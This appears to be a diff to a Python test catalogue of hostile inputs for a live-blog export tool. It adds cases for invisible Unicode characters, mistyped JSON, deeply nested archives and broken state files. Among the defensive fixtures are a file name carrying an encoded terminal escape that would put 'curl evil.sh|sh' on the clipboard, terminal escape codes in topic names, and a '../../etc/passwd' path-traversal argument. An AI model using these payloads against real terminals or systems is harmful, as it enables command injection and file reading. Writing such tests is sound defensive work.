@@ -26,7 +26,7 @@ import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Literal
+from typing import Any, Literal
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 SAMPLE = REPO_ROOT / "sample_articles" / "telegraph-2017-04-12-trump-russia-nato.txt"
@@ -49,14 +49,23 @@ HOSTILE_LINES: tuple[str, ...] = (
 )
 
 # Characters that must appear in no output field: C0 (bar tab/newline), DEL, C1, ESC,
-# the bidi embedding/override/isolate controls, and lone surrogates.
+# the bidi embedding/override/isolate controls, and lone surrogates; since issue 14 also the
+# line/paragraph separators, the bidi marks, the invisible word-splitters (soft hyphen, zero-width
+# space, word joiner...) and the Unicode tag characters. Zero-width joiners are allowed: they
+# hold emoji sequences together.
+INVISIBLE_CHARS = frozenset(
+    ["\u00ad", "\u061c", "\u180e", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\ufffa", "\ufff9",
+     "\ufffb"]
+    + [chr(c) for c in range(0x2060, 0x2065)]
+    + [chr(c) for c in range(0xE0000, 0xE0080)]
+)
 FORBIDDEN_CHARS = frozenset(
     [chr(c) for c in range(0x00, 0x20) if c not in (0x09, 0x0A)]
     + [chr(c) for c in range(0x7F, 0xA0)]
     + [chr(c) for c in range(0x202A, 0x202F)]
     + [chr(c) for c in range(0x2066, 0x206A)]
     + [chr(c) for c in range(0xD800, 0xE000)]  # lone surrogates: not text, cannot be encoded
-)
+) | INVISIBLE_CHARS
 
 
 @dataclass(frozen=True)
@@ -68,8 +77,13 @@ class BadInput:
     build: Callable[[Path], Path]
     expect: Expect
     needs: str | None = None  # "html": skip until the HTML parser exists; "root-drop", "fifo"
-    args: tuple[str, ...] = ()  # extra `liveblog export` arguments
+    args: tuple[str, ...] = ()  # extra `liveblog export` arguments; "{dir}" is the input's folder
     large: bool = False  # slow to build and parse: built once per test session
+    names: str | None = None  # what an error line must name, when not the input ("{dir}" as in args)
+    # "export": an input for `liveblog export` (tests/test_catalogue.py runs them all); "state": the
+    # builder makes a data dir (its argument) holding the oddity, for tui.state; "reader": a
+    # situation in the reader, run by the test named in the description.
+    kind: Literal["export", "state", "reader"] = "export"
 
 
 # ---------------------------------------------------------------- small writers
@@ -384,6 +398,305 @@ MHTML_NO_BOUNDARY = (
 )
 
 
+# ---------------------------------------------------------------- issue 14: not article text, deep, odd
+
+# A file name carrying OSC 52 (write "curl evil.sh|sh" to the terminal's clipboard) and OSC 0 (set
+# the window title): harmless only if every display and export cleans it.
+ESCAPES_NAME = f"b{ESC}]52;c;Y3VybCBldmlsLnNofHNo\x07{ESC}]0;pwned\x07.html"
+# A page without <title> or <h1>: the path stands in for the title in the reader and the exports.
+TITLELESS_HTML = (
+    b"<!doctype html><html><body><article>"
+    b"<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time><p>One update from the Kremlin.</p></div>"
+    b"<div class='block'><time datetime='2024-05-01T09:00:00Z'>09:00</time><p>Two updates.</p></div>"
+    b"</article></body></html>"
+)
+HOSTILE_TOPIC = f"Evil{ESC}]0;pwned\x07 {ESC}[31mRed\u202e topic"
+# Every invisible character the cleaning removes or turns into a newline (finding 11).
+INVISIBLES_TEXT = timed_text((
+    "Line\u2028separator and paragraph\u2029separator",
+    "Lav\u200brov, Lav\u00adrov, Lav\u2060rov and Lav\u200drov said so",
+    "Marks \u200eleft\u200f right \u061c and \u180e Mongolian",
+    "Visible\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 text and a flag \U0001f3f4\U000e0067\U000e0062"
+    "\U000e0065\U000e006e\U000e0067\U000e007f",
+    "Annotation \ufff9base\ufffaruby\ufffb end",
+))
+
+
+# Article text that would restructure a Markdown export if copied as it is: rules, setext
+# underlines, list markers, strikethrough, and a link whose URL holds "<", ">" and "\\".
+MARKDOWN_STRUCTURE_HTML = (
+    b"<!doctype html><html><head><title>Markdown --- live</title></head><body><article><h1>Markdown --- live</h1>"
+    b"<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time><h2>1. Not a list</h2>"
+    b"<p>---</p><p>1. First point of the speech</p><p>- a bullet that is not one</p><p>~~struck out~~ text</p>"
+    b"<p>===</p><p>+ plus item</p><p>2) paren item</p><p>* star item</p><p>&gt; a quote that is not one</p>"
+    b"<p>A link <a href='https://x.example/a<b>c\\d'>here</a> and text.</p></div>"
+    b"<div class='block'><time datetime='2024-05-01T09:00:00Z'>09:00</time><p>Setext heading above?</p>"
+    b"<p>---</p></div></article></body></html>"
+)
+# A blog whose last update (the first line, newest first) comes after midnight.
+MIDNIGHT_TEXT = "Overnight vote\n\n00:30\n\nAfter midnight\n\nHalf past.\n\n23:50\n\nBefore\n\nLate.\n"
+
+
+def _escapes_filename(folder: Path) -> Path:
+    path = folder / ESCAPES_NAME
+    path.write_bytes(TITLELESS_HTML)
+    return path
+
+
+def _escapes_topic_name(folder: Path) -> Path:
+    def toml_string(text: str) -> str:
+        return '"' + "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in text) + '"'
+
+    (folder / "topics.toml").write_text(
+        f'[topics.{toml_string(HOSTILE_TOPIC)}]\ninclude = ["Kremlin", {toml_string("cyber" + ESC + "[2J")}]\n',
+        encoding="utf-8",
+    )
+    path = folder / "kremlin.txt"
+    path.write_text(timed_text(("The Kremlin denied it.",)), encoding="utf-8")
+    return path
+
+
+# The README's example topics file (section "Topics").
+README_TOPICS = """\
+[topics."Cyber"]
+include = ["cyber", "hacking", "hack*"]
+exclude = ["cyber monday"]
+
+[topics."Moscow"]
+include = ["Moscow", "Kremlin"]
+"""
+# Each paragraph holds an exclude match ("Cyber Monday") and two include matches of the same topic.
+EXCLUDE_HEAVY_PARAGRAPH = ("Shoppers hunted Cyber Monday deals while a cyber attack hit the retailer "
+                           "and hacking went on.")
+
+
+def exclude_heavy_text(size: int) -> str:
+    """Return a text live blog whose one update is about `size` characters of `EXCLUDE_HEAVY_PARAGRAPH`."""
+    count = max(1, size // (len(EXCLUDE_HEAVY_PARAGRAPH) + 2))
+    body = "\n\n".join([EXCLUDE_HEAVY_PARAGRAPH] * count)
+    return f"A huge update\n\n10:00\n\nHeadline of the update\n\n{body}\n"
+
+
+def nested_mhtml(depth: int = 1000) -> bytes:
+    """Return an MHTML archive whose HTML page sits inside `depth` nested multiparts."""
+    parts = [b'From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="B0"\r\n\r\n']
+    for level in range(1, depth):
+        parts.append(b'--B%d\r\nContent-Type: multipart/related; boundary="B%d"\r\n\r\n' % (level - 1, level))
+    parts.append(b"--B%d\r\nContent-Type: text/html\r\n\r\n<html><body><article><h1>Deep</h1><div class='block'>"
+                 b"<time datetime='2024-05-01T10:00:00Z'>10:00</time><p>Inside.</p></div></article></body></html>\r\n"
+                 % (depth - 1))
+    parts.extend(b"--B%d--\r\n" % level for level in range(depth - 1, -1, -1))
+    return b"".join(parts)
+
+
+def _with_topics(toml: str, text: str) -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        (folder / "topics.toml").write_text(toml, encoding="utf-8")
+        path = folder / "article.txt"
+        path.write_text(text, encoding="utf-8")
+        return path
+
+    return build
+
+
+# ---------------------------------------------------------------- type mutations of JSON-shaped input
+#
+# Structured input (the Guardian's CMS JSON, JSON-LD in a page) is validated by type where it is
+# read. These generators take a valid document and put a value of another type at some path:
+# the byte fuzzers rarely produce valid JSON with a wrong type, so `bench/fuzz_types.py` and
+# tests/test_hostile_input.py use these instead.
+
+JsonPath = tuple[str | int, ...]
+
+
+def cms_json_document() -> dict[str, Any]:
+    """Return a small valid Guardian CMS JSON model: two blocks, a pinned post, key events."""
+
+    def block(ident: str, epoch_ms: int, display: str, title: str | None, html: str) -> dict[str, Any]:
+        return {
+            "id": ident, "blockFirstPublished": epoch_ms, "blockFirstPublishedDisplay": display,
+            "blockLastUpdated": epoch_ms + 60_000, "title": title, "contributors": [{"name": "Ann Lee"}],
+            "attributes": {"pinned": False, "keyEvent": True, "summary": False},
+            "elements": [
+                {"_type": "model.dotcomrendering.pageElements.TextBlockElement", "html": html},
+                {"_type": "model.dotcomrendering.pageElements.ImageBlockElement",
+                 "data": {"caption": "The Commons.", "credit": "Photograph: PA"}},
+                {"_type": "model.dotcomrendering.pageElements.RichLinkBlockElement",
+                 "url": "https://www.theguardian.com/politics/x", "text": "Related story"},
+            ],
+        }
+
+    blocks = [
+        block("b2", 1704888000000, "12.00\u00a0GMT", "Vote passes", "<p>The bill passed by 20 votes.</p>"),
+        block("b1", 1704884400000, "11.00\u00a0GMT", None, "<p>MPs are voting now.</p>"),
+    ]
+    pinned = block("b0", 1704880800000, "10.00\u00a0GMT", "Pinned", "<p>Welcome.</p>")
+    return {
+        "headline": "Politics live", "webTitle": "Politics live", "standfirst": "<p>All the news.</p>",
+        "pinnedPost": pinned, "keyEvents": blocks, "blocks": blocks,
+        "canonicalUrl": "https://www.theguardian.com/politics/live/2024/jan/10/example-live",
+        "webURL": "https://www.theguardian.com/politics/live/2024/jan/10/example-live",
+        "webPublicationDate": "2024-01-10T12:05:00.000Z",
+    }
+
+
+def jsonld_document() -> dict[str, Any]:
+    """Return a small valid LiveBlogPosting JSON-LD object with three updates."""
+    updates = [
+        {"@type": "BlogPosting", "@id": f"#u{i}", "headline": f"Update {i}", "articleBody": f"Body of update {i}.",
+         "datePublished": f"2024-05-01T{10 - i:02d}:00:00+01:00", "dateModified": "2024-05-01T12:00:00Z",
+         "author": {"@type": "Person", "name": "Ann Lee"}, "url": f"https://news.example.com/live#u{i}",
+         "mainEntityOfPage": {"@id": "https://news.example.com/live"}}
+        for i in range(3)
+    ]
+    return {
+        "@context": "https://schema.org", "@type": "LiveBlogPosting", "@id": "https://news.example.com/live",
+        "headline": "Vote live", "description": "Follow the vote.", "url": "https://news.example.com/live",
+        "datePublished": "2024-05-01T08:00:00Z", "dateModified": "2024-05-01T12:00:00Z",
+        "coverageStartTime": "2024-05-01T08:00:00Z", "publisher": {"@type": "Organization", "name": "News"},
+        "about": {"@type": "Event", "name": "The vote", "startDate": "2024-05-01"},
+        "mainEntityOfPage": {"@type": "WebPage", "@id": "https://news.example.com/live"},
+        "liveBlogUpdate": updates,
+    }
+
+
+# Values of every JSON type, and the odd ones of each: 1e400 is read back as infinity, 10**400
+# as a 401-digit int, a lone surrogate as a str that cannot be encoded.
+TYPE_MUTANTS: tuple[Any, ...] = (
+    None, True, False, 0, -1, 1.5, 10**400, float("inf"), float("-inf"), float("nan"), "", "abc", "1e400", "-5",
+    "99999999999999999999", "2024-13-45T25:61:00Z", "\ud800", f"{ESC}]0;pwned\x07", [], [5], ["x"], [None],
+    [[[]]], {}, {"a": 1}, {"@id": "#u0"}, {"@list": [1]}, {"@value": 5}, {"name": [1]},
+)
+
+
+def json_paths(document: Any) -> list[JsonPath]:
+    """Return the path of every value inside `document` (objects by key, arrays by index), without recursion."""
+    paths: list[JsonPath] = []
+    stack: list[tuple[JsonPath, Any]] = [((), document)]
+    while stack:
+        path, value = stack.pop()
+        if path:
+            paths.append(path)
+        if isinstance(value, dict):
+            stack.extend(((*path, key), item) for key, item in value.items())
+        elif isinstance(value, list):
+            stack.extend(((*path, index), item) for index, item in enumerate(value))
+    return sorted(paths, key=repr)
+
+
+def mutate(document: Any, path: JsonPath, replacement: Any, *, delete: bool = False) -> Any:
+    """Return a deep copy of `document` with the value at `path` replaced (or deleted from its object)."""
+    import copy
+
+    result = copy.deepcopy(document)
+    parent = result
+    for step in path[:-1]:
+        parent = parent[step]
+    last = path[-1]
+    if delete and isinstance(parent, dict):
+        del parent[last]
+    else:
+        parent[last] = copy.deepcopy(replacement)
+    return result
+
+
+def json_text(document: Any) -> bytes:
+    """Return `document` as JSON bytes (non-ASCII as \\u escapes, so a lone surrogate is valid JSON text;
+    Infinity and NaN as Python writes them)."""
+    import json
+
+    return json.dumps(document).encode("ascii")
+
+
+def _cms_wrong_types() -> dict[str, Any]:
+    """Return the CMS JSON document with every mistyped value of issue 14, finding 6."""
+    doc = cms_json_document()
+    doc["canonicalUrl"], doc["webURL"] = 12345, {"href": "https://x.example/"}
+    blocks = doc["blocks"]
+    blocks[0]["id"] = ["b2"]
+    blocks[0]["blockFirstPublished"] = "abc"
+    blocks[1]["blockFirstPublished"] = float("inf")  # written as Infinity; 1e400 in the file reads the same
+    doc["pinnedPost"]["blockFirstPublished"] = [5]
+    blocks[1]["contributors"] = 7
+    blocks[0]["elements"][2]["url"] = 42
+    return doc
+
+
+def _jsonld_wrong_types() -> dict[str, Any]:
+    doc = jsonld_document()
+    doc["headline"] = 5
+    doc["url"] = {"a": 1}
+    doc["liveBlogUpdate"][0]["datePublished"] = [5]
+    doc["liveBlogUpdate"][1]["author"] = [1, 2]
+    doc["liveBlogUpdate"][2]["headline"] = {"@value": 5}
+    return doc
+
+
+# ---------------------------------------------------------------- state files and the data dir (issue 14)
+
+STATE_KEY = "/articles/state-test.txt"  # the article whose state file the "state" entries replace
+
+
+def _state_file(root: Path) -> Path:
+    from tui.state import state_path
+
+    path = state_path(STATE_KEY, root)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return path
+
+
+def _state_fifo(root: Path) -> Path:
+    path = _state_file(root)
+    os.mkfifo(path)
+    return path
+
+
+def _state_dev_zero(root: Path) -> Path:
+    path = _state_file(root)
+    path.symlink_to("/dev/zero")
+    return path
+
+
+def _state_oversized(root: Path) -> Path:
+    path = _state_file(root)
+    with path.open("wb") as handle:
+        handle.truncate(40 * MB)  # sparse: 40 MB long, nothing on disk
+    return path
+
+
+def _state_directory(root: Path) -> Path:
+    path = _state_file(root)
+    path.mkdir()
+    return path
+
+
+def _stale_temporaries(root: Path) -> Path:
+    """Leave what `kill -9` during saves and exports leaves, an hour old, beside files to keep."""
+    (root / "state").mkdir(parents=True, exist_ok=True)
+    (root / "exports").mkdir(parents=True, exist_ok=True)
+    old = os.path.getmtime(root) - 3600
+    left = root / "state" / ".abc.json.x1y2z3.tmp"
+    for path in (left, root / "exports" / ".x.md.old999.tmp", root / "state" / "notes.tmp",
+                 root / "state" / "keep.json"):
+        path.write_text("{}")
+        os.utime(path, (old, old))
+    (root / "state" / ".link.tmp").symlink_to(root / "state" / "keep.json")
+    os.utime(root / "state" / ".link.tmp", (old, old), follow_symlinks=False)
+    return left
+
+
+def _sample_copy(folder: Path) -> Path:
+    path = folder / SAMPLE.name
+    path.write_bytes(SAMPLE.read_bytes())
+    return path
+
+
+def _non_utf8_filename(folder: Path) -> Path:
+    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), b"caf\xe9.txt")))
+    path.write_text(timed_text(), encoding="utf-8")
+    return path
+
+
 # ---------------------------------------------------------------- the catalogue
 
 
@@ -491,6 +804,56 @@ def _cat() -> list[BadInput]:
                  "either", needs="html"),
         BadInput("mhtml-no-boundary", "MHTML header without a boundary", _write("nob.mhtml", MHTML_NO_BOUNDARY),
                  "either", needs="html"),
+        # Issue 14 (round two): what is not article text, deep and odd inputs.
+        BadInput("escapes-filename", "title-less page whose file name holds OSC 52 (clipboard) and OSC 0 (title)",
+                 _escapes_filename, "ok", needs="html"),
+        BadInput("escapes-topic-name", "topics file naming a topic (and a term) with escape codes",
+                 _escapes_topic_name, "ok", args=("--topics", "{dir}/topics.toml")),
+        BadInput("non-utf8-filename", "a file named caf\\xe9.txt (not UTF-8)", _non_utf8_filename, "ok"),
+        BadInput("unicode-invisibles", "U+2028/U+2029, zero-width characters, bidi marks, soft hyphens, tags",
+                 _write("invisible.txt", INVISIBLES_TEXT.encode()), "ok"),
+        BadInput("cms-json-wrong-types", "CMS JSON: canonicalUrl a number, block id a list, blockFirstPublished "
+                 "'abc', 1e400 and [5], contributors a number, a rich-link url a number",
+                 _write("types.json", json_text(_cms_wrong_types())), "ok"),
+        BadInput("jsonld-wrong-types", "JSON-LD: headline a number, an update headline {\"@value\": 5}, "
+                 "datePublished [5], author a list of numbers, url an object",
+                 _write("ld-types.html", jsonld_page(json_text(_jsonld_wrong_types()).decode())), "either",
+                 needs="html"),
+        BadInput("max-size-inf", "--max-size inf (was OverflowError)", _write("small.txt", timed_text().encode()),
+                 "error", args=("--max-size", "inf"), names="--max-size"),
+        BadInput("max-size-1e400", "--max-size 1e400 (a float that is infinite)",
+                 _write("small.txt", timed_text().encode()), "error", args=("--max-size", "1e400"), names="--max-size"),
+        BadInput("date-9999-midnight", "--date 9999-12-31 on a blog that crosses midnight (was OverflowError)",
+                 _write("midnight.txt", MIDNIGHT_TEXT.encode()), "ok", args=("--date", "9999-12-31", "--tz",
+                                                                              "America/New_York")),
+        BadInput("tz-path", "--tz ../../etc/passwd (dateutil reads it as a file and warns)",
+                 _write("small.txt", timed_text().encode()), "error", args=("--tz", "../../etc/passwd"), names="--tz"),
+        BadInput("markdown-structure", "text and a link URL that would restructure a Markdown export "
+                 "(---, ===, 1. , - , + , 2) , ~~, < > \\\\ in the URL)", _write("md.html", MARKDOWN_STRUCTURE_HTML),
+                 "ok", needs="html"),
+        BadInput("state-fifo", "a FIFO in place of an article's state file (hung the reader)", _state_fifo, "error",
+                 kind="state"),
+        BadInput("state-dev-zero", "a symlink to /dev/zero in place of a state file (read without end)",
+                 _state_dev_zero, "error", kind="state"),
+        BadInput("state-oversized", "a 40 MB (sparse) state file", _state_oversized, "error", kind="state"),
+        BadInput("state-directory", "a directory in place of a state file", _state_directory, "error", kind="state"),
+        BadInput("stale-temporaries", "'.tmp' files an hour old left by kill -9 during saves and exports",
+                 _stale_temporaries, "ok", kind="state"),
+        BadInput("export-same-second", "e, change the order, e, e within one second "
+                 "[test_exports_in_the_same_second_never_overwrite]", _sample_copy, "ok", kind="reader"),
+        BadInput("quit-during-enrichment", "q while enrichment runs "
+                 "[test_quitting_during_enrichment_ends_the_process_at_once]", _sample_copy, "ok", kind="reader"),
+        BadInput("topics-long-term", "topics file with a 500-character term (was a RecursionError in the word trie)",
+                 _with_topics(f'[topics."Long"]\ninclude = ["{"a" * 500}"]\n', timed_text()), "error",
+                 args=("--topics", "{dir}/topics.toml"), names="{dir}/topics.toml"),
+        BadInput("topics-deep-toml", "topics file nested 600 arrays deep (RecursionError inside tomllib)",
+                 _with_topics("x = " + "[" * 600 + "]" * 600 + "\n", timed_text()), "error",
+                 args=("--topics", "{dir}/topics.toml"), names="{dir}/topics.toml"),
+        BadInput("mhtml-nested-multipart", "MHTML with its page inside 1,000 nested multiparts",
+                 _write("nested.mhtml", nested_mhtml()), "either", needs="html"),
+        BadInput("topics-exclude-heavy", "README topics on a 300 KB update full of include and exclude matches",
+                 _with_topics(README_TOPICS, exclude_heavy_text(300_000)), "ok",
+                 args=("--topics", "{dir}/topics.toml")),
     ]
 
 
@@ -504,10 +867,10 @@ BY_NAME: dict[str, BadInput] = {entry.name: entry for entry in CATALOGUE}
 
 
 def build_all(folder: Path, *, include_large: bool = False) -> dict[str, Path]:
-    """Build every catalogue entry under `folder` (one sub-folder each); return name -> path."""
+    """Build every `liveblog export` entry under `folder` (one sub-folder each); return name -> path."""
     paths: dict[str, Path] = {}
     for entry in CATALOGUE:
-        if entry.large and not include_large:
+        if (entry.large and not include_large) or entry.kind != "export":
             continue
         sub = folder / entry.name
         sub.mkdir(parents=True, exist_ok=True)
